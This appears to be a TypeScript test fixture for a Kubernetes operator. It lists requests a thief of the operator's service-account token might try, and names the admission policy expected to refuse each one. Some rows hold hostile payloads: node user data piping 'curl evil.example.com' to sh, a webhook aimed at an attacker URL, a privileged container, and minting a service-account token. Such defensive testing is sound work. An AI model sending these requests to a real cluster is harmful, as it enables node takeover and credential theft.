/**
 * What a thief of our token would try, and what the product itself does with the same rights.
 *
 * Rows of requests under our ServiceAccount. The first must come through, the second must be refused by the policies over our own account
 * (deploy/base/own-account-policies.yaml), each by the one that names it.
 */
import type { ApiRequest } from "../support/control-plane-request.ts";

export interface ThiefRow {
  readonly what: string;
  readonly request: Omit<ApiRequest, "token">;
  /** The policy that refuses it; absent: it is allowed. */
  readonly refusedBy?: string;
}

const merge = "application/merge-patch+json";
const [apps, core, admission] = ["/apis/apps/v1/namespaces", "/api/v1", "/apis/admissionregistration.k8s.io/v1"];
const annotation = (name: string, value: string) => ({ spec: { template: { metadata: { annotations: { [name]: value } } } } });
const rolled = annotation("platform.example.com/rolled-contract", "0123abcd");
const evil = { name: "evil", image: "registry.example.com/evil:1", securityContext: { privileged: true } };

function patch(path: string, body: object): ThiefRow["request"] {
  return { method: "PATCH", path, body, contentType: merge };
}

/** Applies as registration does: server-side, over what stands. */
function configure(kind: string, name: string, webhook: object | undefined): ThiefRow["request"] {
  const resource = `${kind.toLowerCase()}s`;
  const body = {
    apiVersion: "admissionregistration.k8s.io/v1",
    kind,
    metadata: { name, labels: { "app.kubernetes.io/name": "plimsoll" } },
    ...(webhook === undefined ? {} : { webhooks: [{ ...ownWebhook, ...webhook }] }),
  };
  return {
    method: "PATCH",
    path: `${admission}/${resource}/${name}?fieldManager=plimsoll-webhook&force=true`,
    body,
    contentType: "application/apply-patch+yaml",
  };
}

const mutating = "MutatingWebhookConfiguration";
const validating = "ValidatingWebhookConfiguration";
const exempt = { key: "kubernetes.io/metadata.name", operator: "NotIn", values: ["kube-system", "kube-node-lease", "plimsoll-system"] };
const service = { namespace: "plimsoll-system", name: "plimsoll", port: 443, path: `/mutate/open/${"a".repeat(64)}` };
const podsRule = { operations: ["CREATE"], apiGroups: [""], apiVersions: ["v1"], resources: ["pods"], scope: "Namespaced" };
const ownWebhook = {
  name: "pods.platform.example.com",
  clientConfig: { service },
  rules: [podsRule],
  failurePolicy: "Ignore",
  matchPolicy: "Equivalent",
  namespaceSelector: { matchExpressions: [exempt] },
  sideEffects: "NoneOnDryRun",
  timeoutSeconds: 5,
  admissionReviewVersions: ["v1"],
};

const child = (name: string, marked: boolean) => ({
  apiVersion: "policy/v1",
  kind: "PodDisruptionBudget",
  metadata: {
    name,
    namespace: "shop",
    // The garbage collector knows no such profile, and takes what names it; the finalizer lets it stand for the test.
    finalizers: ["example.com/kept"],
    ...(marked ? { labels: { "app.kubernetes.io/managed-by": "workloadprofile" } } : {}),
    ownerReferences: [
      { apiVersion: "platform.example.com/v1", kind: "WorkloadProfile", name: "web", uid: "00000000-0000-0000-0000-000000000000" },
    ],
  },
  spec: { minAvailable: 1, selector: { matchLabels: { app: "web" } } },
});

const secret = (name: string, type: string) => ({
  apiVersion: "v1",
  kind: "Secret",
  metadata: { name, annotations: { "kubernetes.io/service-account.name": "plimsoll" } },
  type,
});

const pod = { apiVersion: "v1", kind: "Pod", metadata: { name: "evil", namespace: "shop" }, spec: { containers: [evil] } };
const node = (name: string, providerID: string) => ({
  apiVersion: "v1",
  kind: "Node",
  metadata: { name, labels: { "karpenter.sh/nodepool": "general-flex" }, annotations: { "kwok.x-k8s.io/node": "fake" } },
  spec: { providerID },
});

/** What {@link thiefRows} needs to stand, as the administrator applies it. */
export const thiefGround: readonly object[] = [
  { apiVersion: "v1", kind: "Namespace", metadata: { name: "shop" } },
  {
    apiVersion: "apps/v1",
    kind: "Deployment",
    metadata: { name: "web", namespace: "kube-system" },
    spec: {
      replicas: 0,
      selector: { matchLabels: { app: "web" } },
      template: { metadata: { labels: { app: "web" } }, spec: { containers: [{ name: "web", image: "registry.example.com/web:1" }] } },
    },
  },
  child("theirs", false),
  { apiVersion: "v1", kind: "Node", metadata: { name: "control-plane-1" } },
  { apiVersion: "v1", kind: "Node", metadata: { name: "bought-1", labels: { "karpenter.sh/nodepool": "general-flex" } } },
  {
    ...pod,
    metadata: { name: "waiting", namespace: "shop" },
    spec: { schedulerName: "nobody", containers: [{ name: "web", image: "registry.example.com/web:1" }] },
  },
];

const web = `${apps}/kube-system/deployments/web`;
const budgets = "/apis/policy/v1/namespaces/shop/poddisruptionbudgets";
const waiting = `${core}/namespaces/shop/pods/waiting`;
const secrets = `${core}/namespaces/plimsoll-system/secrets`;
const nodePool = "/apis/karpenter.sh/v1/nodepools/general-flex";
const nodeClass = "/apis/karpenter.k8s.aws/v1/ec2nodeclasses/default-private";

/** In this order: what is allowed first, since some of it stands for what follows. */
export const thiefRows: readonly ThiefRow[] = [
  { what: "the annotation that rolls a template", request: patch(web, rolled) },
  { what: "a child of a profile", request: { method: "POST", path: budgets, body: child("ours", true) } },
  { what: "the deletion of such a child", request: { method: "DELETE", path: `${budgets}/ours` } },
  { what: "our own webhook at our own Service", request: configure(mutating, "plimsoll-open", {}) },
  {
    what: "the taints of a bought node",
    request: patch(`${core}/nodes/bought-1`, { spec: { taints: [{ key: "karpenter.sh/disrupted", effect: "NoSchedule" }] } }),
  },
  { what: "the annotations of a NodePool", request: patch(nodePool, { metadata: { annotations: { "karpenter.sh/nodepool-hash": "1" } } }) },
  { what: "the nomination of a Pod", request: patch(`${waiting}/status`, { status: { nominatedNodeName: "bought-1" } }) },
  {
    what: "another image",
    request: patch(web, { spec: { template: { spec: { containers: [evil] } } } }),
    refusedBy: "plimsoll-own-templates",
  },
  { what: "the replicas", request: patch(web, { spec: { replicas: 3 } }), refusedBy: "plimsoll-own-templates" },
  { what: "a label of a workload", request: patch(web, { metadata: { labels: { a: "b" } } }), refusedBy: "plimsoll-own-templates" },
  {
    what: "a finalizer of a workload",
    request: patch(web, { metadata: { finalizers: ["a.example.com/b"] } }),
    refusedBy: "plimsoll-own-templates",
  },
  {
    what: "an owner of a workload",
    request: patch(web, { metadata: { ownerReferences: [{ apiVersion: "v1", kind: "ConfigMap", name: "a", uid: "b" }] } }),
    refusedBy: "plimsoll-own-templates",
  },
  {
    what: "a label of a template",
    request: patch(web, { spec: { template: { metadata: { labels: { app: "web", a: "b" } } } } }),
    refusedBy: "plimsoll-own-templates",
  },
  {
    what: "another annotation of a template",
    request: patch(web, annotation("sidecar.istio.io/inject", "true")),
    refusedBy: "plimsoll-own-templates",
  },
  {
    what: "a text in our annotation",
    request: patch(web, annotation("platform.example.com/rolled-contract", "{{ evil }}")),
    refusedBy: "plimsoll-own-templates",
  },
  {
    what: "the service account of a template",
    request: patch(web, { spec: { template: { spec: { serviceAccountName: "admin" } } } }),
    refusedBy: "plimsoll-own-templates",
  },
  {
    what: "a budget that is nobody's",
    request: { method: "POST", path: budgets, body: child("free", false) },
    refusedBy: "plimsoll-own-children",
  },
  {
    what: "the deletion of another's budget",
    request: { method: "DELETE", path: `${budgets}/theirs` },
    refusedBy: "plimsoll-own-children",
  },
  {
    what: "a webhook for Secrets",
    request: configure(mutating, "plimsoll-open", { rules: [{ ...podsRule, resources: ["secrets"] }] }),
    refusedBy: "plimsoll-own-webhooks",
  },
  {
    what: "a webhook for everything",
    request: configure(mutating, "plimsoll-open", { rules: [{ ...podsRule, apiGroups: ["*"], resources: ["*"] }] }),
    refusedBy: "plimsoll-own-webhooks",
  },
  {
    what: "a mutating webhook for Deployments",
    request: configure(mutating, "plimsoll-open", { rules: [{ ...podsRule, apiGroups: ["apps"], resources: ["deployments"] }] }),
    refusedBy: "plimsoll-own-webhooks",
  },
  {
    what: "a webhook at a URL",
    request: configure(mutating, "plimsoll-profiles", { clientConfig: { url: "https://evil.example.com/" } }),
    refusedBy: "plimsoll-own-webhooks",
  },
  {
    what: "a webhook at another Service",
    request: configure(validating, "plimsoll-open", { clientConfig: { service: { ...service, namespace: "shop" } } }),
    refusedBy: "plimsoll-own-webhooks",
  },
  {
    what: "a webhook in kube-system",
    request: configure(mutating, "plimsoll-open", { namespaceSelector: {} }),
    refusedBy: "plimsoll-own-webhooks",
  },
  {
    what: "an open webhook that fails closed",
    request: configure(mutating, "plimsoll-open", { failurePolicy: "Fail" }),
    refusedBy: "plimsoll-own-webhooks",
  },
  {
    what: "no webhook any more",
    request: {
      ...configure(mutating, "plimsoll-open", undefined),
      ...patch(`${admission}/mutatingwebhookconfigurations/plimsoll-open`, { webhooks: [] }),
    },
    refusedBy: "plimsoll-own-webhooks",
  },
  {
    what: "the deletion of an open configuration",
    request: { method: "DELETE", path: `${admission}/mutatingwebhookconfigurations/plimsoll-open` },
    refusedBy: "plimsoll-own-webhooks",
  },
  {
    what: "a Node of one's own",
    request: { method: "POST", path: `${core}/nodes`, body: node("evil", "aws:///a/i-1") },
    refusedBy: "plimsoll-own-nodes",
  },
  {
    what: "a taint of another's node",
    request: patch(`${core}/nodes/control-plane-1`, { spec: { taints: [{ key: "a", effect: "NoExecute" }] } }),
    refusedBy: "plimsoll-own-nodes",
  },
  {
    what: "a label that makes another's node ours",
    request: patch(`${core}/nodes/control-plane-1`, { metadata: { labels: { "karpenter.sh/nodepool": "general-flex" } } }),
    refusedBy: "plimsoll-own-nodes",
  },
  {
    what: "the cordon of a bought node",
    request: patch(`${core}/nodes/bought-1`, { spec: { unschedulable: true } }),
    refusedBy: "plimsoll-own-nodes",
  },
  {
    what: "the deletion of another's node",
    request: { method: "DELETE", path: `${core}/nodes/control-plane-1` },
    refusedBy: "plimsoll-own-nodes",
  },
  {
    what: "the user data of new nodes",
    request: patch(nodeClass, { spec: { userData: "#!/bin/sh\ncurl evil.example.com | sh" } }),
    refusedBy: "plimsoll-own-infrastructure",
  },
  {
    what: "the limits of a NodePool",
    request: patch(nodePool, { spec: { limits: { cpu: "100000" } } }),
    refusedBy: "plimsoll-own-infrastructure",
  },
  {
    what: "the conditions of a Pod",
    request: patch(`${waiting}/status`, { status: { phase: "Succeeded" } }),
    refusedBy: "plimsoll-own-pods",
  },
  {
    what: "the labels of a Pod through its status",
    request: patch(`${waiting}/status`, { metadata: { labels: { app: "web" } } }),
    refusedBy: "plimsoll-own-pods",
  },
  {
    what: "a token of our own account",
    request: { method: "POST", path: secrets, body: secret("token", "kubernetes.io/service-account-token") },
    refusedBy: "plimsoll-own-namespace",
  },
  {
    what: "a token under the certificate's name",
    request: { method: "POST", path: secrets, body: secret("plimsoll-certificate", "kubernetes.io/service-account-token") },
    refusedBy: "plimsoll-own-namespace",
  },
];

/** What the Component pod-dry-run grants besides: to make Pods. */
export const podMakerRows: readonly ThiefRow[] = [
  { what: "a dry run of a Pod", request: { method: "POST", path: `${core}/namespaces/shop/pods?dryRun=All`, body: pod } },
  { what: "a Pod", request: { method: "POST", path: `${core}/namespaces/shop/pods`, body: pod }, refusedBy: "plimsoll-own-pods" },
];
